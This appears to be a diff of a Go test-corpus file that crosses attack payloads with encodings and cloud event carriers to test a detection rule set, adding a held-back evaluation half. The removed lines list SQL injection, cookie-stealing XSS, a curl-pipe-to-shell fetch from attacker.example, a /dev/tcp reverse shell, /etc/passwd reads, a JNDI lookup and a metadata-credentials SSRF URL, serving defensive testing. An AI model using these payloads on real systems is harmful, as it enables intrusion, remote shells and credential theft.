@@ -1,76 +1,59 @@
 package corpus
 
-import "strings"
+import (
+	"hash/fnv"
+	"slices"
+	"strings"
+	"sync"
+)
 
-// attack is one payload of the matrix.
-type attack struct{ name, class, payload string }
+// Half is one of the two halves of the matrix.
+type Half int
 
-// attacks are the injections that are crossed with every encoding and every source: such as a rule set knows when it
-// sees them plain, so that a miss is one of decoding.
-var attacks = []attack{
-	{"union", "sql injection", `1' UNION SELECT username,password FROM users-- -`},
-	{"tautology", "sql injection", `x' OR '1'='1' -- `},
-	{"script", "cross-site scripting", `"><script>alert(document.cookie)</script>`},
-	{"onerror", "cross-site scripting", `<img src=x onerror=alert(document.domain)>`},
-	{"substitution", "command injection", `$(curl http://attacker.example/x|sh)`},
-	{"shell", "command injection", `x; cat /etc/passwd; /bin/bash -i >& /dev/tcp/203.0.113.9/4444 0>&1`},
-	{"traversal", "path traversal", `../../../../etc/passwd`},
-	{"jndi", "jndi lookup", `${jndi:ldap://attacker.example/a}`},
-	{"metadata", "ssrf", `http://169.254.169.254/latest/meta-data/iam/security-credentials/`},
-	{"node", "code injection", `require('child_process').execSync('cat /etc/passwd')`},
-}
+// The halves. Rules and decoders may be written with the cases of the open one before one's eyes. The other is held back:
+// its rate says what the rules are worth on what they were not written for, as long as nobody looks at its cases.
+const (
+	Open Half = iota
+	HeldBack
+)
 
-// encoding is one way to hide a payload in a text.
-type encoding struct {
-	name string
-	wire []string
-}
+// wideShare is the share of all combinations that is taken of those that are not basic: one in so many.
+const wideShare = 16
 
-var encodings = []encoding{
-	{"plain", nil},
-	{"url-twice", []string{"url", "url"}},
-	{"url-five", []string{"url", "url", "url", "url", "url"}},
-	{"json", []string{"json note", "json body"}},
-	{"escapes", []string{"escapes note"}},
-	{"base64", []string{"base64"}},
-	{"base64url", []string{"json note", "base64url"}},
-	{"gzip", []string{"gzip", "base64"}},
-	{"zlib", []string{"zlib", "base64"}},
-	{"zip", []string{"zip-content", "base64"}},
-	{"utf-16", []string{"utf-16", "base64"}},
-	{"mail", []string{"mail-text", "ses-content"}},
-}
+// Matrix returns attacks crossed with encodings and with the events that carry them: all of those that are basic, and of
+// the others a share that their names choose.
+func Matrix() ([]Case, error) { return matrix() }
 
-// carrier is one event that takes any text.
-type carrier struct {
-	name, source, event string
-	wire                []string
-}
-
-var carriers = []carrier{
-	{"rest", "rest-v1", "rest-v1.body", []string{"json comment"}},
-	{"url", "function-url", "function-url.query", []string{"url"}},
-	{"queue", "sqs", "sqs.body", nil},
-	{"topic", "sqs", "sqs.body", []string{"sns"}},
-	{"stream", "kinesis", "kinesis.data", []string{"base64"}},
-	{"bus", "eventbridge", "eventbridge.detail", nil},
-}
-
-// Matrix returns every attack in every encoding in every carrier.
-func Matrix() []Case {
+var matrix = sync.OnceValues(func() ([]Case, error) {
+	attacks, err := matrixAttacks()
+	if err != nil {
+		return nil, err
+	}
 	var cases []Case
 	for _, a := range attacks {
 		for _, e := range encodings {
 			for _, c := range carriers {
-				wire := append(append([]string(nil), e.wire...), c.wire...)
+				id := a.name + "/" + e.name + "/" + c.name
+				if !(a.basic && e.basic && c.basic) && hashOf(id)%wideShare != 0 {
+					continue
+				}
 				cases = append(cases, Case{
-					ID: a.name + "/" + e.name + "/" + c.name, Source: c.source, Event: c.event,
-					Class: a.class, Payload: a.payload, Wire: wire,
+					ID: id, Source: c.source, Event: c.event, Class: a.class, Payload: a.payload,
+					Wire: slices.Concat(e.wire, c.wire),
 				})
 			}
 		}
 	}
-	return cases
+	return cases, nil
+})
+
+// HalfOf says which half a case of the matrix belongs to. Its name alone decides.
+func HalfOf(id string) Half { return Half(hashOf("half of "+id) % 2) }
+
+func hashOf(text string) uint64 {
+	h := fnv.New64a()
+	_, _ = h.Write([]byte(text)) // never fails
+	return h.Sum64() >> 20       // the low bits of FNV say little of what comes first
 }
 
 // Part returns one part of the id of a case of the matrix: 0 the attack, 1 the encoding, 2 the carrier.
